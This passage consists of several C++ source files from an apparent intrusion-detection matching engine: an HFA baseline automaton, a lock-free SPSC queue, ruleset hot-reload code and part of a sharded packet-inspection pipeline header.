  hfa.annotation_offsets_.assign(naccept + 1, 0);
  for (std::uint32_t s = 0; s < naccept; ++s) {
    const auto [first, last] = d->accepts(s);
    hfa.annotation_offsets_[s + 1] =
        hfa.annotation_offsets_[s] + static_cast<std::uint32_t>(last - first);
  }
  hfa.annotation_ids_.resize(hfa.annotation_offsets_[naccept]);
  for (std::uint32_t s = 0; s < naccept; ++s) {
    const auto [first, last] = d->accepts(s);
    auto* out = hfa.annotation_ids_.data() + hfa.annotation_offsets_[s];
    std::copy(first, last, out);
    std::sort(out, out + (last - first),
              filter::ActionOrderLess{&hfa.program_.actions});
  }

  // Expand to the wide full-alphabet conditional table of the HFA model:
  // each entry carries two successors selected by a history-bit test plus
  // the annotation reference. Our decomposition-derived construction never
  // needs the branch to diverge (guards are resolved inside annotations),
  // so both successors coincide — but the engine still performs the test
  // per byte, which is what makes HFA transitions expensive.
  hfa.table_.assign(static_cast<std::size_t>(hfa.state_count_) * 256, HfaEntry{});
  for (std::uint32_t s = 0; s < hfa.state_count_; ++s) {
    for (unsigned b = 0; b < 256; ++b) {
      const std::uint32_t nxt = d->next(s, static_cast<unsigned char>(b));
      HfaEntry e;
      e.next_clear = nxt;
      e.next_set = nxt;
      // Wire the test to the first guard bit the target's actions consult
      // so the per-byte test touches live history words.
      e.test_bit = 0;
      if (nxt < naccept) {
        e.ann = nxt + 1;
        const auto [first, last] = hfa.annotation(nxt);
        for (const auto* it = first; it != last; ++it) {
          const auto& action = hfa.program_.actions[*it];
          if (action.test != filter::kNone) {
            e.test_bit = action.test;
            break;
          }
        }
      }
      hfa.table_[(static_cast<std::size_t>(s) << 8) | b] = e;
    }
  }

  st.seconds = timer.seconds();
  return hfa;
}

}  // namespace mfa::hfa
