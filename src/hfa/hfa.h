// HFA baseline: a History-based Finite Automaton in the HASIC mold
// (Kumar et al. [15], Liu et al. [17]; paper Sec. II-A and Sec. V).
//
// An HFA augments a DFA with auxiliary "history" bits, but unlike MFA the
// bits are consulted/updated on ordinary *transitions*: every byte the
// engine loads a wide conditional transition entry, tests a history bit to
// select between the entry's two successors, and, when an annotation is
// present, interprets condition/update ops against the history. That is
// exactly the structural weakness the paper calls out — "transitions that
// check the state of memory ... direct lookup of the transition is not
// practical" — giving larger per-transition storage (16-byte entries over
// the full 256-byte alphabet, ~10-40x the MFA image) and slower per-byte
// processing (a dependent memory test on every input byte) than MFA's
// match-event-only filter.
//
// We derive the history bits from the same decomposition the MFA uses, so
// the HFA is exactly match-equivalent to the original patterns; what we
// reproduce is the HASIC *cost model*, not its construction heuristics
// (noted as a substitution in DESIGN.md).
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "dfa/dfa.h"
#include "filter/engine.h"
#include "split/splitter.h"

namespace mfa::hfa {

struct BuildOptions {
  split::Options split;
  dfa::BuildOptions dfa;
};

struct BuildStats {
  dfa::BuildStats dfa;
  double seconds = 0.0;
};

/// One history-conditional transition: the engine tests `test_bit` in the
/// flow's history memory and takes next_set or next_clear accordingly. For
/// transitions our construction leaves unconditioned the two successors
/// coincide, but the engine cannot know that statically — it pays the test
/// on every byte, which is the HFA cost model.
struct HfaEntry {
  std::uint32_t next_clear = 0;
  std::uint32_t next_set = 0;
  std::int32_t test_bit = 0;
  std::uint32_t ann = 0;  ///< 1 + annotation index, or 0 for none
};

class Hfa {
 public:
  /// Stable engine label used by telemetry exporters and bench reports.
  static constexpr const char* kEngineName = "hfa";

  [[nodiscard]] std::uint32_t state_count() const { return state_count_; }
  [[nodiscard]] std::uint32_t start() const { return start_; }
  [[nodiscard]] const filter::Program& program() const { return program_; }

  [[nodiscard]] const HfaEntry* table_data() const { return table_.data(); }

  [[nodiscard]] std::pair<const std::uint32_t*, const std::uint32_t*> annotation(
      std::uint32_t index) const {
    return {annotation_ids_.data() + annotation_offsets_[index],
            annotation_ids_.data() + annotation_offsets_[index + 1]};
  }

  /// Image: full-alphabet 16-byte conditional entries + annotation tables +
  /// the action records themselves.
  [[nodiscard]] std::size_t memory_image_bytes() const {
    return table_.size() * sizeof(HfaEntry) +
           annotation_offsets_.size() * sizeof(std::uint32_t) +
           annotation_ids_.size() * sizeof(std::uint32_t) +
           program_.memory_image_bytes();
  }

  [[nodiscard]] std::size_t context_bytes() const {
    return sizeof(std::uint32_t) +
           filter::Memory::context_bytes(program_.memory_bits, program_.counters,
                                         program_.position_slots);
  }

  // --- Engine/Context split (uniform API across all six engines) ---
  // No InlineContext API: HFA history memory is sized per ruleset and not
  // guaranteed word-small, so the tiered flow table keeps HFA contexts in
  // its cold tier (see flow/tiered.h).

  using Context = filter::ScanContext;

  [[nodiscard]] Context make_context() const {
    return Context{start_, filter::Memory(program_.counters, program_.position_slots,
                                  program_.memory_bits)};
  }

  void reset(Context& ctx) const {
    ctx.state = start_;
    ctx.memory.reset();
  }

  /// The flow's current automaton state (profiler state-visit sampling).
  [[nodiscard]] std::uint32_t context_state(const Context& ctx) const {
    return ctx.state;
  }

  /// Feed a chunk through `ctx`. Thread-safe with distinct contexts.
  template <typename Sink>
  void feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
            Sink&& sink) const {
    const filter::Engine engine(program_);
    const HfaEntry* table = table_.data();
    std::uint32_t s = ctx.state;
    for (std::size_t i = 0; i < size; ++i) {
      const HfaEntry& e = table[(static_cast<std::size_t>(s) << 8) | data[i]];
      // The defining HFA cost: every transition consults the history
      // memory before the successor is known.
      s = ctx.memory.test_bit(e.test_bit) ? e.next_set : e.next_clear;
      if (e.ann != 0) {
        const auto [first, last] = annotation(e.ann - 1);
        for (const auto* it = first; it != last; ++it)
          engine.on_match(*it, base + i, ctx.memory, sink);
      }
    }
    ctx.state = s;
  }

 private:
  friend std::optional<Hfa> build_hfa(const std::vector<nfa::PatternInput>&,
                                      const BuildOptions&, BuildStats*);
  std::uint32_t state_count_ = 0;
  std::uint32_t start_ = 0;
  std::vector<HfaEntry> table_;  // state_count * 256
  std::vector<std::uint32_t> annotation_offsets_;
  std::vector<std::uint32_t> annotation_ids_;  // engine ids in phase order
  filter::Program program_;
};

std::optional<Hfa> build_hfa(const std::vector<nfa::PatternInput>& patterns,
                             const BuildOptions& options = {}, BuildStats* stats = nullptr);

/// Back-compat wrapper over the Engine/Context split (engine pointer + one
/// owned Context).
class HfaScanner {
 public:
  explicit HfaScanner(const Hfa& hfa) : hfa_(&hfa), ctx_(hfa.make_context()) {}

  void reset() { hfa_->reset(ctx_); }

  template <typename Sink>
  void feed(const std::uint8_t* data, std::size_t size, std::uint64_t base, Sink&& sink) {
    hfa_->feed(ctx_, data, size, base, sink);
  }

  MatchVec scan(const std::uint8_t* data, std::size_t size) {
    reset();
    CollectingSink sink;
    feed(data, size, 0, sink);
    return std::move(sink.matches);
  }
  MatchVec scan(const std::string& data) {
    return scan(reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

 private:
  const Hfa* hfa_;
  Hfa::Context ctx_;
};

}  // namespace mfa::hfa
