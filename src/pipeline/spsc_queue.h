// Bounded single-producer/single-consumer ring queue.
//
// The sharded pipeline's only cross-thread channel: the dispatcher thread
// pushes packets, exactly one worker pops them, so a classic Lamport ring
// with acquire/release counters needs no locks and no CAS on the hot path.
// Each side keeps a cached copy of the other side's counter so the common
// case touches only one shared cache line per operation.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <vector>

namespace mfa::pipeline {

template <typename T>
class SpscQueue {
 public:
  /// Capacity is rounded up to a power of two (minimum 2).
  explicit SpscQueue(std::size_t capacity) {
    std::size_t cap = 2;
    while (cap < capacity) cap <<= 1;
    ring_.resize(cap);
    mask_ = cap - 1;
  }

  SpscQueue(const SpscQueue&) = delete;
  SpscQueue& operator=(const SpscQueue&) = delete;

  /// Producer side only. Returns false when the ring is full.
  bool try_push(const T& value) {
    const std::uint64_t tail = tail_.load(std::memory_order_relaxed);
    if (tail - head_cache_ > mask_) {
      head_cache_ = head_.load(std::memory_order_acquire);
      if (tail - head_cache_ > mask_) return false;
    }
    ring_[tail & mask_] = value;
    tail_.store(tail + 1, std::memory_order_release);
    return true;
  }

  /// Producer side only. Pushes up to `n` items from `items`, returning how
  /// many fit (0 when full). One release store publishes the whole run, so
  /// a burst costs the same shared-cache-line traffic as a single push.
  std::size_t try_push_batch(const T* items, std::size_t n) {
    const std::uint64_t tail = tail_.load(std::memory_order_relaxed);
    std::size_t free = mask_ + 1 - static_cast<std::size_t>(tail - head_cache_);
    if (free < n) {
      head_cache_ = head_.load(std::memory_order_acquire);
      free = mask_ + 1 - static_cast<std::size_t>(tail - head_cache_);
    }
    const std::size_t cnt = n < free ? n : free;
    for (std::size_t i = 0; i < cnt; ++i) ring_[(tail + i) & mask_] = items[i];
    if (cnt != 0) tail_.store(tail + cnt, std::memory_order_release);
    return cnt;
  }

  /// Consumer side only. Returns false when the ring is empty.
  bool try_pop(T& out) {
    const std::uint64_t head = head_.load(std::memory_order_relaxed);
    if (head == tail_cache_) {
      tail_cache_ = tail_.load(std::memory_order_acquire);
      if (head == tail_cache_) return false;
    }
    out = ring_[head & mask_];
    head_.store(head + 1, std::memory_order_release);
    return true;
  }

  /// Consumer side only. Pops up to `max` items into `out`, returning how
  /// many were available (0 when empty). One release store retires the run.
  std::size_t try_pop_batch(T* out, std::size_t max) {
    const std::uint64_t head = head_.load(std::memory_order_relaxed);
    std::size_t avail = static_cast<std::size_t>(tail_cache_ - head);
    if (avail == 0) {
      tail_cache_ = tail_.load(std::memory_order_acquire);
      avail = static_cast<std::size_t>(tail_cache_ - head);
    }
    const std::size_t cnt = max < avail ? max : avail;
    for (std::size_t i = 0; i < cnt; ++i) out[i] = ring_[(head + i) & mask_];
    if (cnt != 0) head_.store(head + cnt, std::memory_order_release);
    return cnt;
  }

  /// Producer side: declare that nothing more will ever be pushed. A
  /// consumer looping on try_pop/try_pop_batch uses `empty-pop && closed()`
  /// as its termination condition; because closed_ is set AFTER the final
  /// push's release store (program order on the producer thread), a consumer
  /// that observes closed() and then drains one more time cannot miss items
  /// — closing the shutdown race where a stop flag set by a third party
  /// could be observed before the queue's last elements.
  void close() { closed_.store(true, std::memory_order_release); }

  [[nodiscard]] bool closed() const {
    return closed_.load(std::memory_order_acquire);
  }

  /// Consumer side: reopen after a drain, for reusing the ring.
  void reopen() { closed_.store(false, std::memory_order_release); }

  /// Occupancy estimate; exact from the producer thread, approximate
  /// elsewhere. Used for queue-depth stats, not for synchronization.
  [[nodiscard]] std::size_t depth() const {
    const std::uint64_t head = head_.load(std::memory_order_acquire);
    const std::uint64_t tail = tail_.load(std::memory_order_relaxed);
    return static_cast<std::size_t>(tail - head);
  }

  [[nodiscard]] std::size_t capacity() const { return mask_ + 1; }

 private:
  std::vector<T> ring_;
  std::size_t mask_ = 0;
  std::atomic<bool> closed_{false};
  alignas(64) std::atomic<std::uint64_t> head_{0};  ///< next slot to pop
  alignas(64) std::atomic<std::uint64_t> tail_{0};  ///< next slot to push
  alignas(64) std::uint64_t head_cache_ = 0;  ///< producer's last view of head_
  alignas(64) std::uint64_t tail_cache_ = 0;  ///< consumer's last view of tail_
};

}  // namespace mfa::pipeline
