#include "pipeline/reload.h"

#include <optional>
#include <string>
#include <utility>

#include "rules/rules.h"

namespace mfa::pipeline::reload {

SourceResult<core::Mfa> compile_rules_file(const std::string& path,
                                           const core::BuildOptions& options) {
  rules::LoadResult loaded = rules::load_rules_file(path);
  if (!loaded.ok()) {
    std::string err = "cannot compile rules file '" + path + "'";
    if (!loaded.errors.empty()) {
      err += ": line " + std::to_string(loaded.errors.front().line) + ": " +
             loaded.errors.front().message;
      if (loaded.errors.size() > 1)
        err += " (+" + std::to_string(loaded.errors.size() - 1) + " more)";
    }
    return {std::nullopt, std::move(err)};
  }
  if (loaded.rules.empty())
    return {std::nullopt, "rules file '" + path + "' contains no rules"};
  std::optional<core::Mfa> mfa =
      core::build_mfa(rules::to_pattern_inputs(loaded.rules), options);
  if (!mfa.has_value())
    return {std::nullopt,
            "MFA construction failed for '" + path + "' (piece DFA state cap)"};
  return {std::move(mfa), std::string()};
}

SourceResult<core::Mfa> load_artifact(const std::string& path) {
  std::optional<core::Mfa> mfa = core::Mfa::load(path);
  if (!mfa.has_value())
    return {std::nullopt,
            "cannot load MFAC artifact '" + path + "' (missing, corrupt, or wrong version)"};
  return {std::move(mfa), std::string()};
}

}  // namespace mfa::pipeline::reload
