// Live ruleset hot-swap (DESIGN.md Sec. 10 "Ruleset lifecycle & hot reload").
//
// Security rule sets change constantly while the sensor must keep scanning:
// this header turns "compile on a build host, push to sensors" (the MFAC
// artifact workflow) into an online operation. An EngineSet is one compiled
// ruleset with a generation number; the RulesetRegistry versions and owns
// the newest one; a HotSwapper prepares a candidate (compiling a rules file
// or loading an artifact) off the packet path — optionally on a background
// thread — and atomically publishes it to a running ShardedInspector via
// swap_ruleset(). Lifetime is pure refcounting: every pipeline shard pins
// the EngineSet it scans with through an aliased shared_ptr, so the old set
// is destroyed exactly when the last flow context referencing it retires.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <thread>
#include <utility>

#include "mfa/mfa.h"
#include "obs/metrics.h"
#include "pipeline/pipeline.h"
#include "util/timing.h"

namespace mfa::pipeline::reload {

/// One compiled ruleset generation: the immutable engine plus the metadata
/// operators see in swap reports and telemetry. Shared, refcounted; the
/// pipeline holds aliased shared_ptrs into `engine`, so the whole set lives
/// until the last shard/flow referencing it lets go.
template <typename EngineT>
struct EngineSet {
  EngineT engine;
  std::uint64_t generation = 0;
  std::string origin;  ///< rules path, artifact path, or a caller label
};

/// Aliased pointer to the set's engine: copying it refcounts the whole
/// EngineSet — exactly what ShardedInspector::swap_ruleset wants to pin.
template <typename EngineT>
[[nodiscard]] std::shared_ptr<const EngineT> engine_of(
    const std::shared_ptr<const EngineSet<EngineT>>& set) {
  return std::shared_ptr<const EngineT>(set, &set->engine);
}

/// Generation-versioned registry of the newest published ruleset. publish()
/// assigns the next generation (starting at 1; 0 means "the engine the
/// pipeline was constructed with"). Thread-safe.
template <typename EngineT>
class RulesetRegistry {
 public:
  std::shared_ptr<const EngineSet<EngineT>> publish(EngineT engine, std::string origin) {
    auto set = std::make_shared<EngineSet<EngineT>>(EngineSet<EngineT>{
        std::move(engine), next_generation_.fetch_add(1, std::memory_order_relaxed),
        std::move(origin)});
    std::lock_guard<std::mutex> lock(mu_);
    current_ = set;
    return set;
  }

  [[nodiscard]] std::shared_ptr<const EngineSet<EngineT>> current() const {
    std::lock_guard<std::mutex> lock(mu_);
    return current_;
  }

  /// Generation of the newest published set (0 when none yet).
  [[nodiscard]] std::uint64_t current_generation() const {
    std::lock_guard<std::mutex> lock(mu_);
    return current_ != nullptr ? current_->generation : 0;
  }

 private:
  mutable std::mutex mu_;
  std::shared_ptr<const EngineSet<EngineT>> current_;
  std::atomic<std::uint64_t> next_generation_{1};
};

/// Outcome of one swap attempt. A failed prepare (parse error, missing or
/// corrupt artifact, state-cap blowup) never touches the pipeline: the old
/// generation keeps scanning.
struct SwapReport {
  bool ok = false;
  std::string error;
  std::uint64_t generation = 0;    ///< published generation when ok
  double prepare_seconds = 0.0;    ///< compile/load time, off the packet path
  std::string origin;

  [[nodiscard]] explicit operator bool() const { return ok; }
};

/// A candidate-ruleset source: returns the compiled engine, or nullopt plus
/// a human-readable error. Runs on the swapper's (possibly background)
/// thread, never on a packet-path thread.
template <typename EngineT>
using SourceResult = std::pair<std::optional<EngineT>, std::string>;

/// Glue object for "keep scanning while rules change": prepares a candidate
/// via a Source callback, publishes it through the registry, and swaps it
/// into the pipeline; obs::MetricsRegistry (optional) gets the generation
/// gauge / swap counter / latency histogram / trace event.
///
/// swap_now() runs inline (caller's thread blocks for the prepare);
/// swap_async() runs the same sequence on a managed background thread — at
/// most one in flight, the destructor joins. Both may run concurrently with
/// submit(), but not with start()/finish() (swap_ruleset's contract).
template <typename EngineT>
class HotSwapper {
 public:
  using Source = std::function<SourceResult<EngineT>()>;

  HotSwapper(RulesetRegistry<EngineT>& registry, ShardedInspector<EngineT>& pipeline,
             obs::MetricsRegistry* metrics = nullptr)
      : registry_(&registry), pipeline_(&pipeline), metrics_(metrics) {}

  ~HotSwapper() { join(); }

  HotSwapper(const HotSwapper&) = delete;
  HotSwapper& operator=(const HotSwapper&) = delete;

  /// Prepare + publish + swap, inline on the calling thread.
  SwapReport swap_now(const Source& source, std::string origin) {
    util::WallTimer timer;
    SourceResult<EngineT> prepared = source();
    SwapReport report;
    report.origin = std::move(origin);
    if (!prepared.first.has_value()) {
      report.prepare_seconds = timer.seconds();
      report.error = prepared.second.empty() ? "ruleset prepare failed"
                                             : std::move(prepared.second);
      set_report(report);
      return report;
    }
    auto set = registry_->publish(*std::move(prepared.first), report.origin);
    report.prepare_seconds = timer.seconds();
    pipeline_->swap_ruleset(engine_of(set), set->generation);
    report.ok = true;
    report.generation = set->generation;
    if (metrics_ != nullptr)
      metrics_->record_ruleset_swap(
          set->generation,
          static_cast<std::uint64_t>(report.prepare_seconds * 1e9));
    set_report(report);
    return report;
  }

  /// Kick off swap_now() on a background thread. Returns false (and does
  /// nothing) when a previous async swap is still in flight. Completion is
  /// observable via busy() / last_report().
  bool swap_async(Source source, std::string origin) {
    if (busy_.exchange(true, std::memory_order_acq_rel)) return false;
    join();  // reap the previous (finished) thread before reusing the slot
    thread_ = std::thread([this, src = std::move(source), org = std::move(origin)]() mutable {
      swap_now(src, std::move(org));
      busy_.store(false, std::memory_order_release);
    });
    return true;
  }

  /// An async swap is still preparing/publishing.
  [[nodiscard]] bool busy() const { return busy_.load(std::memory_order_acquire); }

  /// Block until the in-flight async swap (if any) completes.
  void join() {
    if (thread_.joinable()) thread_.join();
  }

  /// The most recent completed swap attempt (sync or async).
  [[nodiscard]] std::optional<SwapReport> last_report() const {
    std::lock_guard<std::mutex> lock(report_mu_);
    return last_report_;
  }

 private:
  void set_report(const SwapReport& report) {
    std::lock_guard<std::mutex> lock(report_mu_);
    last_report_ = report;
  }

  RulesetRegistry<EngineT>* registry_;
  ShardedInspector<EngineT>* pipeline_;
  obs::MetricsRegistry* metrics_;
  std::atomic<bool> busy_{false};
  std::thread thread_;
  mutable std::mutex report_mu_;
  std::optional<SwapReport> last_report_;
};

// --- Mfa-specific candidate sources (reload.cpp) ---

/// Compile a Snort-style rules file into an Mfa. Parse options inside
/// `options.parse` govern the rule dialect and are persisted through any
/// later Mfa::save().
SourceResult<core::Mfa> compile_rules_file(const std::string& path,
                                           const core::BuildOptions& options = {});

/// Load a compiled MFAC artifact (the build-host → sensor push workflow).
SourceResult<core::Mfa> load_artifact(const std::string& path);

}  // namespace mfa::pipeline::reload
