// Sharded multi-worker flow inspection (ROADMAP: sharding/async scaling).
//
// One immutable Engine (built once, shared read-only) serves N worker
// threads. Each worker owns a private FlowInspector — a flow table of small
// per-flow Contexts, the paper's (q, m) pairs — and a bounded SPSC packet
// queue. The dispatcher hashes each packet's FlowKey to a shard, so every
// flow is pinned to exactly one worker: flow tables need no locks, and the
// only cross-thread traffic is the queues themselves. The hot path is
// batched end to end (DESIGN.md Sec. 7): submit() buffers per shard and
// flushes bursts with one queue release-store, workers pop bursts and run
// them through FlowInspector::packet_batch, which interleaves distinct
// flows through the engine's K-way feed_many kernel. Matches and stats
// accumulate shard-locally and are merged after finish(); attaching an
// obs::MetricsRegistry (Options::metrics) additionally mirrors every
// counter into lock-free telemetry readable mid-run via snapshot().
//
// Robustness layer (DESIGN.md Sec. 9): the pipeline is built to survive
// hostile traffic and its own workers failing.
//  - Load shedding: Options::shed_policy trades completeness for liveness
//    when a shard falls behind, with hysteresis around high/low watermarks.
//  - Supervision: Options::watchdog runs a monitor thread that restarts
//    crashed workers (fresh per-flow contexts) and detects stalled ones via
//    heartbeats; a shard that keeps crashing is failed over to shedding.
//  - Per-flow CPU budgets: Options::flow_cpu_budget_ns quarantines flows
//    that monopolize scan time (FlowInspector evicts them; later packets of
//    a quarantined flow are shed, never scanned).
//  - Exact accounting: every submitted packet is either scanned or counted
//    in exactly one shed bucket, so totals() always satisfies
//    submitted == scanned + shed_total(), even across crashes, failovers
//    and bounded shutdown.
//  - Bounded shutdown: finish(timeout) drains what it can by the deadline,
//    sheds the rest with accounting, and never hangs on a wedged worker
//    (worst case it abandons the thread and leaks its shard).
//
// Thread-safety contract (see DESIGN.md "Engine/Context split & pipeline"):
//  - Engines are immutable after construction and shareable across threads.
//  - Contexts (and the FlowInspectors holding them) are confined to one
//    shard's worker thread; the watchdog touches an inspector only after
//    joining its dead worker.
//  - submit() must be called from a single producer thread; packet payload
//    pointers must stay valid until finish() returns (Trace owns them).
#pragma once

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <functional>
#include <list>
#include <map>
#include <memory>
#include <mutex>
#include <stdexcept>
#include <thread>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "flow/flow.h"
#include "flow/tiered.h"
#include "obs/export.h"
#include "pipeline/degrade.h"
#include "obs/http_server.h"
#include "obs/metrics.h"
#include "obs/profile.h"
#include "pipeline/spsc_queue.h"
#include "util/faultpoint.h"
#include "util/match.h"

namespace mfa::pipeline {

/// What submit() does when a shard is overloaded (queue backlog past the
/// high watermark, or buffered reassembly bytes past their cap).
enum class ShedPolicy : std::uint8_t {
  kBackpressure,    ///< never shed: spin the producer until the queue drains
  kDropNewest,      ///< drop the arriving packet (counted as shed_admission)
  kDropOldestFlow,  ///< sacrifice least-recently-active flows, admit the rest
  kBypassToCount,   ///< don't scan, but still count packet+bytes (shed_bypass)
};

/// Why a packet was shed instead of scanned. Each shed packet is counted in
/// exactly one bucket; Options::shed_sink receives (packet, reason).
enum class ShedReason : std::uint8_t {
  kAdmission,   ///< dropped at submit() by the shed policy
  kBypass,      ///< admitted to the counts but never scanned (kBypassToCount)
  kCorrupt,     ///< injected corrupt packet rejected before delivery
  kCrash,       ///< burst abandoned because the worker crashed mid-scan
  kQuarantine,  ///< its flow exceeded the per-flow CPU budget
  kFailover,    ///< drained without scanning (failed shard or shutdown deadline)
};

[[nodiscard]] inline const char* to_string(ShedReason r) {
  switch (r) {
    case ShedReason::kAdmission: return "admission";
    case ShedReason::kBypass: return "bypass";
    case ShedReason::kCorrupt: return "corrupt";
    case ShedReason::kCrash: return "crash";
    case ShedReason::kQuarantine: return "quarantine";
    case ShedReason::kFailover: return "failover";
  }
  return "?";
}

/// A match with the flow it occurred on; collected when
/// Options::collect_flow_matches is set (parity harnesses need to compare
/// per-flow match streams while excluding shed flows).
struct FlowMatch {
  flow::FlowKey key;
  Match match;
  /// Engine generation whose context produced the match (0 before any
  /// swap_ruleset); across a hot swap this attributes every match to the
  /// ruleset that actually scanned the flow.
  std::uint64_t generation = 0;
};

/// Per-shard accounting, merged by the dispatcher after finish().
/// flows/evictions/reassembly_drops are refreshed on every processed packet
/// (not only at worker exit), so the values are never stale; for reading
/// them mid-run, attach an obs::MetricsRegistry and use snapshot().
///
/// Accounting invariant: submitted == scanned + shed_total(). `packets` and
/// `bytes` count what the worker popped from its queue (shed-at-admission
/// packets never reach it); `scanned` is the subset actually delivered to
/// the engine.
struct ShardStats {
  std::uint64_t packets = 0;  ///< packets popped by the shard worker
  std::uint64_t bytes = 0;
  std::uint64_t matches = 0;
  std::uint64_t flows = 0;             ///< flows resident after the last packet
  std::uint64_t evictions = 0;         ///< flow-table LRU evictions
  std::uint64_t reassembly_drops = 0;  ///< segments dropped by the pending cap
  std::uint64_t max_queue_depth = 0;   ///< high-water mark of the SPSC queue
  std::uint64_t queue_full_spins = 0;  ///< producer spins while the queue was full
  std::uint64_t submitted = 0;         ///< packets handed to submit()
  std::uint64_t scanned = 0;           ///< packets actually fed to the engine
  std::uint64_t shed_admission = 0;    ///< ShedReason::kAdmission
  std::uint64_t shed_bypass = 0;       ///< ShedReason::kBypass
  std::uint64_t shed_corrupt = 0;      ///< ShedReason::kCorrupt
  std::uint64_t shed_crash = 0;        ///< ShedReason::kCrash
  std::uint64_t shed_quarantine = 0;   ///< ShedReason::kQuarantine
  std::uint64_t shed_failover = 0;     ///< ShedReason::kFailover
  std::uint64_t shed_bytes = 0;        ///< payload bytes of shed packets
  std::uint64_t flows_quarantined = 0; ///< flows evicted for busting CPU budget
  std::uint64_t prefilter_pass = 0;    ///< gate-eligible chunks scanned in full
  std::uint64_t prefilter_skip = 0;    ///< chunks proven clean, scan skipped
  std::uint64_t worker_restarts = 0;   ///< crashed workers revived by watchdog
  std::uint64_t worker_stalls = 0;     ///< stall episodes flagged by watchdog
  std::uint64_t degraded_hits = 0;     ///< probe-positive chunks at L1/L2
  std::uint64_t degrade_level = 0;     ///< ladder rung at collection (gauge)
  std::uint64_t degrade_transitions = 0;  ///< ladder moves by the controller
  std::uint64_t flows_recovered = 0;   ///< journal resets after worker crashes
  /// Matches keyed by the engine generation that produced them (generation
  /// 0 before any swap_ruleset). Sums to `matches` for joined workers.
  std::map<std::uint64_t, std::uint64_t> matches_by_generation;

  [[nodiscard]] std::uint64_t shed_total() const {
    return shed_admission + shed_bypass + shed_corrupt + shed_crash +
           shed_quarantine + shed_failover;
  }

  ShardStats& operator+=(const ShardStats& o) {
    packets += o.packets;
    bytes += o.bytes;
    matches += o.matches;
    flows += o.flows;
    evictions += o.evictions;
    reassembly_drops += o.reassembly_drops;
    max_queue_depth = max_queue_depth > o.max_queue_depth ? max_queue_depth
                                                          : o.max_queue_depth;
    queue_full_spins += o.queue_full_spins;
    submitted += o.submitted;
    scanned += o.scanned;
    shed_admission += o.shed_admission;
    shed_bypass += o.shed_bypass;
    shed_corrupt += o.shed_corrupt;
    shed_crash += o.shed_crash;
    shed_quarantine += o.shed_quarantine;
    shed_failover += o.shed_failover;
    shed_bytes += o.shed_bytes;
    flows_quarantined += o.flows_quarantined;
    prefilter_pass += o.prefilter_pass;
    prefilter_skip += o.prefilter_skip;
    worker_restarts += o.worker_restarts;
    worker_stalls += o.worker_stalls;
    degraded_hits += o.degraded_hits;
    // Merged totals report the worst shard's rung: "how degraded is the
    // pipeline" is a max question, not a sum.
    degrade_level = degrade_level > o.degrade_level ? degrade_level
                                                    : o.degrade_level;
    degrade_transitions += o.degrade_transitions;
    flows_recovered += o.flows_recovered;
    for (const auto& [gen, count] : o.matches_by_generation)
      matches_by_generation[gen] += count;
    return *this;
  }
};

struct Options {
  std::size_t shards = 1;
  std::size_t queue_capacity = 4096;  ///< per-shard SPSC ring slots
  std::size_t max_flows_per_shard = 0;  ///< 0 = unbounded flow tables
  std::size_t max_pending_per_flow = flow::kDefaultMaxPendingBytes;
  /// Packet batching (DESIGN.md Sec. 7): submit() buffers up to this many
  /// packets per shard before flushing them into the SPSC queue in one
  /// burst, and each worker pops/processes bursts of the same size through
  /// FlowInspector::packet_batch. 1 disables batching (per-packet push/pop).
  std::size_t batch_size = 32;
  /// Interleave width K for the workers' batched scans (engines with
  /// feed_many); see DESIGN.md Sec. 7 on K selection.
  std::size_t scan_lanes = scan::kDefaultLanes;
  bool collect_matches = false;  ///< keep full Match records (else count only)
  /// Keep (flow_key, match) records too — heavier than collect_matches;
  /// meant for parity/soak harnesses, not production.
  bool collect_flow_matches = false;
  /// Optional telemetry root (externally owned, must outlive the inspector).
  /// Shard i writes into metrics->shard(i % metrics->shard_count()); when
  /// null the hot path pays one untaken branch per packet.
  obs::MetricsRegistry* metrics = nullptr;
  /// What happens to flows mid-stream when swap_ruleset() publishes a new
  /// engine generation (DESIGN.md Sec. 10). kDrainOld preserves per-flow
  /// match parity for flows that predate the swap; kResetOnNextPacket
  /// releases the old generation fastest.
  flow::SwapPolicy swap_policy = flow::SwapPolicy::kDrainOld;

  // --- Tracing, profiling & live endpoint (DESIGN.md Sec. 12) ---
  /// Latency spans: 1-in-2^trace_sample_shift submitted packets carry a
  /// submit TSC stamp; the shard worker adds dequeue/scan-start/scan-end
  /// and records queue-wait, scan and end-to-end latency histograms plus a
  /// SpanTraceRing event. Only effective with `metrics` attached. Default
  /// 6 = 1 in 64 packets.
  std::uint32_t trace_sample_shift = 6;
  /// Optional sampled cost profiler (externally owned, must outlive the
  /// inspector): per-rule scan ns/bytes attribution and automaton
  /// state-visit sampling inside every shard's flow inspector. Requires
  /// `metrics` — profiling rides the instrumented path.
  obs::Profiler* profiler = nullptr;
  /// Serve GET /metrics, /telemetry.json, /profile.json and /healthz on
  /// 127.0.0.1:<http_port> between start() and finish(). -1 = disabled
  /// (the default); 0 = kernel-assigned, read back via http_port().
  /// Requires `metrics`.
  int http_port = -1;
  /// /healthz thresholds: the overload verdict flips to 503 when any
  /// signal crosses its line (or a shard has failed over).
  struct HealthThresholds {
    /// Shed packets / submitted packets above this is unhealthy.
    double max_shed_ratio = 0.05;
    /// Live queue depth above this is unhealthy. 0 = 7/8 of queue_capacity.
    std::uint64_t max_queue_depth = 0;
    /// Cumulative watchdog restarts above this are unhealthy.
    /// 0 = shards * max_worker_restarts (the failover budget).
    std::uint64_t max_worker_restarts = 0;
    /// Quarantined flows above this are unhealthy.
    std::uint64_t max_quarantined_flows = 1024;
  } health;

  // --- Adaptive degradation (DESIGN.md Sec. 14) ---
  /// Service-level objective the per-shard degradation controller defends.
  /// slo.p99_ns == 0 (the default) disables the closed loop entirely: no
  /// clock reads, no controller polls, identical hot path to earlier
  /// versions. With a target set, each shard worker walks the fidelity
  /// ladder L0 full -> L1 sampled -> L2 prefilter-only -> L3 bypass, one
  /// rung per dwell period, to keep estimated p99 under the objective.
  Slo slo;
  /// Controller tuning (gains, dwell, hysteresis band, L1 sampling rate).
  /// degrade.force_level >= 0 pins the ladder for bench sweeps.
  DegradeKnobs degrade;

  // --- Overload & robustness (DESIGN.md Sec. 9) ---
